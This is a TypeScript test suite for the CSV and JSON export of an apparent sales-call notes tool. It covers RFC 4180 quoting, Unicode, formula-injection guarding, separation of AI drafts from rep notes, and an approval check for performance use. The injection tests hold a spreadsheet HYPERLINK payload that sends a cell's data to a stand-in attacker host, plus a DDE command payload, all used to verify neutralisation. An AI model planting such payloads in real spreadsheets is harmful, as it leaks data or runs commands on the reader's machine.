import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { formatOffset, POLICY_LINE, type CallBundle } from '../../lib/export/call-bundle';
import { CALLS_CSV_COLUMNS, CSV_BOM, callsCsv, toCsv, type CsvCell } from '../../lib/export/csv';
import { CALLS_JSON_FORMAT, callsJson, type CallsJson } from '../../lib/export/json';
import { parseCsv } from './support/csv-reader';
import type { AiDraftRecord, CallRecord, ChecklistFields } from '../../lib/model';

const BOM = '\uFEFF';

describe('parseCsv (the test oracle)', () => {
  it('is strict: it rejects what RFC 4180 does not allow', () => {
    expect(() => parseCsv('a"b\r\n')).toThrow(/bare quote/);
    expect(() => parseCsv('"a"x\r\n')).toThrow(/unexpected/);
    expect(() => parseCsv('"open\r\n')).toThrow(/unterminated/);
    expect(() => parseCsv('a\nb\r\n')).toThrow(/unexpected/);
    expect(parseCsv('a,"b,""c"""\r\n,\r\n')).toEqual([['a', 'b,"c"'], ['', '']]);
  });
});

describe('toCsv: RFC 4180', () => {
  it('writes a BOM, the header and rows with CRLF after every record', () => {
    expect(toCsv(['a', 'b'], [['1', 'x'], ['2', 'y']])).toBe(`${BOM}"a","b"\r\n"1","x"\r\n"2","y"\r\n`);
    expect(CSV_BOM).toBe(BOM);
  });

  it('omits the BOM on request', () => {
    expect(toCsv(['a'], [['x']], { bom: false })).toBe('"a"\r\n"x"\r\n');
  });

  it('encodes the BOM as EF BB BF in UTF-8 (what Excel looks for)', () => {
    const bytes = new TextEncoder().encode(toCsv(['ü'], []));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('quotes every field and doubles quotes', () => {
    const csv = toCsv(['h'], [['a,b'], ['say "hi"'], ['"'], ['""']], { bom: false });
    expect(csv).toBe('"h"\r\n"a,b"\r\n"say ""hi"""\r\n""""\r\n""""""\r\n');
    expect(parseCsv(csv)).toEqual([['h'], ['a,b'], ['say "hi"'], ['"'], ['""']]);
  });

  it('quotes fields with CR, LF or CRLF inside and keeps them byte for byte', () => {
    const cells = ['line1\nline2', 'line1\rline2', 'line1\r\nline2', '\n', 'end\r\n'];
    const csv = toCsv(['a', 'b', 'c', 'd', 'e'], [cells], { bom: false });
    expect(csv).toBe('"a","b","c","d","e"\r\n"line1\nline2","line1\rline2","line1\r\nline2","\n","end\r\n"\r\n');
    expect(parseCsv(csv)).toEqual([['a', 'b', 'c', 'd', 'e'], cells]);
  });

  it('keeps leading and trailing whitespace inside the quotes', () => {
    expect(toCsv(['h'], [[' lead'], ['trail '], ['\u00a0nbsp'], ['in side']], { bom: false })).toBe('"h"\r\n" lead"\r\n"trail "\r\n"\u00a0nbsp"\r\n"in side"\r\n');
  });

  it('keeps emoji, CJK and right-to-left text as they are', () => {
    const cells = ['Deal 🎉👩🏽‍💻', '会議の後で連絡します', 'שלום, עולם', 'مرحبا بالعالم', 'e\u0301', '\u200fRLM'];
    const csv = toCsv(['emoji', 'cjk', 'hebrew', 'arabic', 'combining', 'rlm'], [cells]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv).toContain('"Deal 🎉👩🏽‍💻","会議の後で連絡します","שלום, עולם","مرحبا بالعالم"');
    expect(parseCsv(csv)[1]).toEqual(cells);
  });

  it('handles very long text (100k characters)', () => {
    const long = 'A long note, with "quotes",\r\nand lines. '.repeat(2_500).slice(0, 100_000);
    expect(long).toHaveLength(100_000);
    const csv = toCsv(['note', 'n'], [[long, 1]]);
    expect(parseCsv(csv)).toEqual([['note', 'n'], [long, '1']]);
  });

  it('writes null, undefined and empty strings as empty quoted fields', () => {
    const csv = toCsv(['a', 'b', 'c'], [[null, undefined, ''], ['', 'x', null]], { bom: false });
    expect(csv).toBe('"a","b","c"\r\n"","",""\r\n"","x",""\r\n');
    const single = toCsv(['only'], [[''], [null], ['x']], { bom: false });
    expect(single).toBe('"only"\r\n""\r\n""\r\n"x"\r\n');
    expect(parseCsv(single)).toEqual([['only'], [''], [''], ['x']]);
  });

  it('writes numbers and booleans plainly (non-finite numbers as empty)', () => {
    expect(toCsv(['n'], [[0], [-5], [3.25], [-0], [1e21], [Number.NaN], [Infinity], [true], [false]], { bom: false })).toBe(
      '"n"\r\n"0"\r\n"-5"\r\n"3.25"\r\n"0"\r\n"1e+21"\r\n""\r\n""\r\n"true"\r\n"false"\r\n',
    );
  });

  it('refuses rows whose width differs from the header', () => {
    expect(() => toCsv(['a', 'b'], [['1']])).toThrow(/row 1 has 1 cells; the header has 2/);
  });

  it('gives an empty header-only file for no rows', () => {
    expect(toCsv(['a', 'b'], [])).toBe(`${BOM}"a","b"\r\n`);
  });
});

describe('toCsv: formula injection', () => {
  const one = (cell: CsvCell) => toCsv(['h'], [[cell]], { bom: false }).slice('"h"\r\n'.length, -2);

  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['=HYPERLINK("https://evil.example/?"&A1,"click")', `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['  =1+1', `"'  =1+1"`],
    ['\n=1+2', `"'\n=1+2"`],
    ['\t', `"'\t"`],
    ['- bullet from a note', `"'- bullet from a note"`],
  ])('prefixes %j with an apostrophe', (input, expected) => {
    expect(one(input)).toBe(expected);
    expect(parseCsv(`h\r\n${expected}\r\n`)[1]).toEqual([`'${input}`]);
  });

  it.each(['a=b', '1+1', 'x-y', 'mail@example.com', "'already", '', ' plain', '５'])('leaves %j alone', (input) => {
    expect(parseCsv(`h\r\n${one(input)}\r\n`)[1]).toEqual([input]);
  });

  it('never touches numbers, even negative ones', () => {
    expect(one(-5)).toBe('"-5"');
    expect(one(-0.5)).toBe('"-0.5"');
    expect(one('-5')).toBe(`"'-5"`);
  });

  it('guards header cells too', () => {
    expect(toCsv(['=x'], [], { bom: false })).toBe(`"'=x"\r\n`);
  });
});

describe('toCsv: round trip (property)', () => {
  /** Independent of the writer: text a spreadsheet could read as a formula. */
  const dangerous = /^[ \t\r\n]*[=+\-@]|^[\t\r]/;
  const tricky = fc.string({ unit: fc.constantFrom(',', '"', '\r', '\n', ' ', '\t', 'a', 'Z', '0', 'é', '😀', '中', 'ש', '=', '-', '+', '@', "'", '\u00a0', '\ufeff') });
  const text = fc.oneof(tricky, fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' })).map((s) => (dangerous.test(s) ? `x${s}` : s));
  const cell: fc.Arbitrary<{ value: CsvCell; expected: string }> = fc.oneof(
    { weight: 6, arbitrary: text.map((s) => ({ value: s, expected: s })) },
    fc.integer({ min: -1_000_000, max: 1_000_000 }).map((n) => ({ value: n, expected: String(n) })),
    fc.double({ noNaN: true, noDefaultInfinity: true }).map((n) => ({ value: n, expected: String(n) })),
    fc.boolean().map((b) => ({ value: b, expected: String(b) })),
    fc.constantFrom(null, undefined).map((v) => ({ value: v, expected: '' })),
  );
  const table = fc.integer({ min: 1, max: 6 }).chain((width) =>
    fc.record({
      header: fc.array(text, { minLength: width, maxLength: width }),
      rows: fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 12 }),
      bom: fc.boolean(),
    }),
  );

  it('parses back to the same cells', () => {
    fc.assert(
      fc.property(table, ({ header, rows, bom }) => {
        const csv = toCsv(
          header,
          rows.map((r) => r.map((c) => c.value)),
          { bom },
        );
        expect(csv.startsWith(BOM)).toBe(bom);
        expect(parseCsv(csv)).toEqual([header, ...rows.map((r) => r.map((c) => c.expected))]);
      }),
      { numRuns: 400 },
    );
  });

  it('reads a formula-looking cell back as the same text behind one apostrophe', () => {
    const risky = fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' =', '  -'), fc.string()).map(([a, b]) => a + b);
    fc.assert(
      fc.property(risky, (s) => {
        expect(parseCsv(toCsv(['h'], [[s]]))[1]).toEqual([`'${s}`]);
      }),
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Calls: CSV and JSON

const T0 = Date.UTC(2025, 2, 14, 14, 2, 0);

function fields(over: Partial<ChecklistFields> = {}): ChecklistFields {
  return {
    qualification: '',
    nextSteps: [],
    timeline: '',
    risks: '',
    competition: '',
    humanNuance: '',
    powerDynamics: '',
    hesitation: '',
    emotion: '',
    urgency: '',
    subtleObjections: '',
    ...over,
  };
}

function call(over: Partial<CallRecord> = {}): CallRecord {
  return {
    id: '3f0c9a52-8d1e-4b7a-9c61-2f5e8a7d4b10',
    platform: 'meet',
    meetingHash: 'SECRET-MEETING-HASH',
    status: 'ended',
    tabIds: [42],
    detectedAt: T0 - 60_000,
    admittedAt: T0,
    endedAt: T0 + 45 * 60_000,
    endReason: 'left',
    outcome: 'agreed',
    decidedAt: T0 + 30_000,
    detectedBy: ['meet-participant-tiles'],
    updatedAt: T0 + 45 * 60_000,
    ...over,
  };
}

function draft(statements: AiDraftRecord['statements']): AiDraftRecord {
  return { callId: 'c1', source: 'Otter.ai', statements, createdAt: T0, updatedAt: T0 };
}

const richBundle: CallBundle = {
  call: call(),
  tags: [
    { id: 't2', callId: 'c1', tag: 'next-step', offsetMs: 940_000, at: T0 + 940_000 },
    { id: 't1', callId: 'c1', tag: 'objection', offsetMs: 725_000, text: 'REPTAG price,\ntoo high', at: T0 + 725_000 },
  ],
  checklist: {
    callId: 'c1',
    status: 'done',
    pendingSince: T0 + 45 * 60_000,
    completedAt: T0 + 60 * 60_000,
    updatedAt: T0 + 60 * 60_000,
    fields: fields({
      qualification: 'REPQUAL budget approved\nchampion: Priya',
      nextSteps: [
        { text: 'Send questionnaire', owner: 'Dana', due: '2025-03-21' },
        { text: '', owner: '', due: '' },
        { text: 'Pilot kickoff', owner: '', due: '2025-03-28' },
      ],
      hesitation: 'REPHES paused on billing',
    }),
  },
  note: { callId: 'c1', text: '=HYPERLINK("x") REPNOTE', author: 'rep', createdAt: T0, updatedAt: T0 + 50 * 60_000 },
  aiDraft: draft([
    { id: 's1', text: 'AIONE pilot in May', mark: 'correct' },
    { id: 's2', text: 'AITWO budget is $100k', mark: 'wrong' },
    { id: 's3', text: 'AITHREE uses Okta' },
    { id: 's4', text: '   ' },
  ]),
};

const declinedBundle: CallBundle = {
  call: call({ id: 'c2', outcome: 'declined', endReason: 'tab-closed' }),
  tags: [],
  note: { callId: 'c2', text: 'Customer preferred no recording.', author: 'rep', createdAt: T0, updatedAt: T0 },
};

function csvTable(bundles: CallBundle[]): Record<string, string>[] {
  const [header, ...rows] = parseCsv(callsCsv(bundles));
  expect(header).toEqual([...CALLS_CSV_COLUMNS]);
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? 'MISSING'])));
}

describe('formatOffset', () => {
  it.each([
    [0, '00:00'],
    [999, '00:00'],
    [59_999, '00:59'],
    [725_000, '12:05'],
    [3_599_000, '59:59'],
    [3_600_000, '1:00:00'],
    [3_725_000, '1:02:05'],
    [36_000_000 + 61_000, '10:01:01'],
    [-5_000, '00:00'],
    [Number.NaN, '00:00'],
  ])('%d ms → %s', (ms, expected) => {
    expect(formatOffset(ms)).toBe(expected);
  });
});

describe('callsCsv', () => {
  it('keeps text as typed: a leading line break and a tag "-2+3" survive, guarded only in the file', () => {
    const bundle: CallBundle = {
      call: call(),
      tags: [{ id: 't1', callId: call().id, tag: '-2+3', offsetMs: 1_000, at: call().admittedAt! + 1_000 }],
      checklist: { callId: call().id, status: 'done', fields: fields({ risks: '\n=1+2' }), pendingSince: 0, updatedAt: 0 },
    };
    const [row] = csvTable([bundle]);
    expect(row!.risks).toBe("'\n=1+2");
    expect(row!.tags).toBe('00:01 -2+3');
    const json = callsJson([bundle], { purpose: 'coaching', exportedAt: '2025-03-15T09:00:00.000Z', extensionVersion: '0.1.0' });
    expect(JSON.stringify(json)).toContain('-2+3');
    expect(JSON.stringify(json)).toContain('\\n=1+2');
  });

  it('writes one row per call with the documented columns', () => {
    const [rich, declined] = csvTable([richBundle, declinedBundle]);
    expect(rich).toEqual({
      call_id: '3f0c9a52-8d1e-4b7a-9c61-2f5e8a7d4b10',
      platform: 'meet',
      title: '',
      account: '',
      admitted_at: '2025-03-14T14:02:00.000Z',
      ended_at: '2025-03-14T14:47:00.000Z',
      end_reason: 'left',
      consent_outcome: 'agreed',
      not_recorded_reason: '',
      consent_history: '',
      tags: '12:05 objection: REPTAG price, too high; 15:40 next step',
      checklist_status: 'done',
      checklist_dismissal: '',
      qualification: 'REPQUAL budget approved\nchampion: Priya',
      next_steps: 'Send questionnaire — owner: Dana, due: 2025-03-21; Pilot kickoff — due: 2025-03-28',
      timeline: '',
      risks: '',
      competition: '',
      human_nuance: '',
      power_dynamics: '',
      hesitation: 'REPHES paused on billing',
      emotion: '',
      urgency: '',
      subtle_objections: '',
      rep_notes: `'=HYPERLINK("x") REPNOTE`,
      ai_draft_statements:
        '[AI] AIONE pilot in May (✓ confirmed by rep); [AI] AITWO budget is $100k (✗ marked wrong by rep); [AI] AITHREE uses Okta (not reviewed)',
      ai_marked_wrong_count: '1',
      source_of_narrative: 'rep + AI draft',
    });
    expect(declined).toMatchObject({
      call_id: 'c2',
      consent_outcome: 'declined',
      end_reason: 'tab-closed',
      checklist_status: 'none',
      rep_notes: 'Customer preferred no recording.',
      ai_draft_statements: '',
      ai_marked_wrong_count: '',
      source_of_narrative: 'rep',
    });
  });

  it('keeps AI text out of every rep column', () => {
    const [rich] = csvTable([richBundle]);
    for (const [column, value] of Object.entries(rich!)) {
      if (column === 'ai_draft_statements') continue;
      expect(value, column).not.toMatch(/AIONE|AITWO|AITHREE|\[AI\]/);
    }
    for (const item of rich!.ai_draft_statements!.split('; ')) expect(item.startsWith('[AI] ')).toBe(true);
  });

  it('says why a call was not recorded, and "pending" without a decision', () => {
    const rows = csvTable([
      { call: call({ id: 'n', outcome: 'not-recorded', reason: 'internal-call' }), tags: [] },
      { call: call({ id: 'p', outcome: undefined, endedAt: undefined, endReason: undefined, status: 'active' }), tags: [] },
    ]);
    expect(rows[0]).toMatchObject({ consent_outcome: 'not-recorded', not_recorded_reason: 'internal-call' });
    expect(rows[1]).toMatchObject({ consent_outcome: 'pending', not_recorded_reason: '', ended_at: '', end_reason: '' });
  });

  it('starts with a BOM unless asked not to, and is empty but for the header with no calls', () => {
    expect(callsCsv([]).startsWith(BOM)).toBe(true);
    expect(callsCsv([], { bom: false })).toBe(`${CALLS_CSV_COLUMNS.map((c) => `"${c}"`).join(',')}\r\n`);
  });
});

describe('callsJson', () => {
  const meta = { purpose: 'coaching', exportedAt: '2025-03-15T09:00:00.000Z', extensionVersion: '0.1.0' } as const;

  it('parses, names its format and carries the purpose and the policy line', () => {
    const doc = JSON.parse(callsJson([richBundle, declinedBundle], meta)) as CallsJson;
    expect(doc.format).toBe(CALLS_JSON_FORMAT);
    expect(doc.format).toBe('candor-calls/1');
    expect(doc.meta).toEqual({
      purpose: 'coaching',
      approval: null,
      exportedAt: '2025-03-15T09:00:00.000Z',
      extensionVersion: '0.1.0',
      callCount: 2,
      policyLine: 'AI recordings are for coaching, not scoring. Performance use requires approval.',
    });
    expect(doc.meta.policyLine).toBe(POLICY_LINE);
    expect(doc.calls.map((c) => c.id)).toEqual(['3f0c9a52-8d1e-4b7a-9c61-2f5e8a7d4b10', 'c2']);
  });

  it('is pretty-printed and deterministic', () => {
    const a = callsJson([richBundle], meta);
    expect(a).toBe(callsJson([richBundle], meta));
    expect(a.startsWith('{\n  "format": "candor-calls/1",\n  "meta": {\n')).toBe(true);
    expect(a.endsWith('}\n')).toBe(true);
  });

  it('keeps the rep and the AI apart structurally', () => {
    const [rich, declined] = (JSON.parse(callsJson([richBundle, declinedBundle], meta)) as CallsJson).calls;
    const rep = JSON.stringify(rich!.rep);
    const ai = JSON.stringify(rich!.ai);
    for (const m of ['AIONE', 'AITWO', 'AITHREE']) expect(rep).not.toContain(m);
    for (const m of ['REPTAG', 'REPQUAL', 'REPHES', 'REPNOTE']) {
      expect(rep).toContain(m);
      expect(ai).not.toContain(m);
    }
    expect(rich!.ai).toEqual({
      generatedBy: 'ai',
      kind: 'draft',
      source: 'Otter.ai',
      statements: [
        { id: 's1', text: 'AIONE pilot in May', mark: 'confirmed' },
        { id: 's2', text: 'AITWO budget is $100k', mark: 'wrong' },
        { id: 's3', text: 'AITHREE uses Okta', mark: 'not-reviewed' },
      ],
      counts: { confirmed: 1, wrong: 1, 'not-reviewed': 1 },
    });
    expect(rich!.rep.checklist?.humanInterpretation.hesitation).toBe('REPHES paused on billing');
    expect(rich!.rep.tags.map((t) => `${t.offset} ${t.tag}`)).toEqual(['12:05 objection', '15:40 next-step']);
    expect(rich!.rep.notes?.text).toBe('=HYPERLINK("x") REPNOTE');
    expect(declined!.ai).toBeNull();
    expect(declined!.rep.checklist).toBeNull();
    expect(declined!.consent).toEqual({ outcome: 'declined', notRecordedReason: null, decidedAt: '2025-03-14T14:02:30.000Z', notesOnly: true, history: [] });
  });

  it('leaves internal fields out (meeting hash, tab ids, detection signals)', () => {
    const json = callsJson([richBundle], meta);
    expect(json).not.toContain('SECRET-MEETING-HASH');
    expect(json).not.toContain('meetingHash');
    expect(json).not.toContain('tabIds');
    expect(json).not.toContain('meet-participant-tiles');
  });

  it('requires an approval for performance use', () => {
    expect(() => callsJson([richBundle], { ...meta, purpose: 'performance' })).toThrow(/Performance use requires approval/);
    expect(() => callsJson([richBundle], { ...meta, purpose: 'performance', approval: { approver: ' ', reference: 'HR-12' } })).toThrow(/approver/);
    const doc = JSON.parse(
      callsJson([richBundle], { ...meta, purpose: 'performance', approval: { approver: 'Sam Lee (Sales Director)', reference: 'HR-2025-014' } }),
    ) as CallsJson;
    expect(doc.meta.purpose).toBe('performance');
    expect(doc.meta.approval).toEqual({ approver: 'Sam Lee (Sales Director)', reference: 'HR-2025-014' });
  });

  it('rejects a malformed export date', () => {
    expect(() => callsJson([], { ...meta, exportedAt: 'yesterday' })).toThrow(/exportedAt/);
  });
});
